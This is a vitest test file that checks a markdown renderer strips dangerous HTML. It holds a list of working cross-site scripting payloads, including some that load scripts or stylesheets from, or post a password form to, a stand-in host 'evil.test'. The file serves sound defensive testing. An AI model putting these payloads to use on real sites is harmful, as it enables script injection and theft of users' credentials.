import { describe, expect, test } from 'vitest'
import { renderMarkdown } from './render.ts'

/** The HTML of each must contain nothing that a browser would run, load or style. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](http://example.test/tracker.png)',
  '![x" onerror="alert(1)](https://example.test/a.png)',
  '![x](https://example.test/a.png "t\\" onerror=\\"alert(1)")',
  '[x](https://example.test/"onmouseover="alert(1))',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></p><style><a id="</style><img src onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.test"><input name=password></form>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```x" onclick="alert(1)\ncode\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<x'.repeat(5_000),
]

const allowedTags =
  /^\/?(?:h[1-6]|p|br|hr|blockquote|pre|code|ul|ol|li|em|strong|s|a|img|table|thead|tbody|tr|t[hd]|section|sup|kbd|input)$/
const allowedAttributes = /^(?:href|title|rel|src|alt|loading|class|start|align|id)$/

describe('leaves only text of an attack', () => {
  test.each(attacks)('%s', attack => {
    for (const markdown of [attack, `> ${attack}`, `- ${attack}`, `| a |\n| - |\n| ${attack} |`]) {
      const html = renderMarkdown(markdown).html
      for (const [, tag = '', rest = ''] of html.matchAll(/<([^\s>]+)([^>]*)>/g)) {
        expect(tag).toMatch(allowedTags)
        for (const [, name = '', value = ''] of rest.matchAll(/([^\s=]+)="([^"]*)"/g)) {
          expect(name).toMatch(allowedAttributes)
          if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|[#/]|[\w%.-]+$)/)
          if (name === 'src') expect(value).toMatch(/^https:/)
        }
        expect(rest.replaceAll(/[^\s=]+="[^"]*"/g, '').replaceAll(/[\s/]/g, '')).toBe('')
      }
    }
  })
})
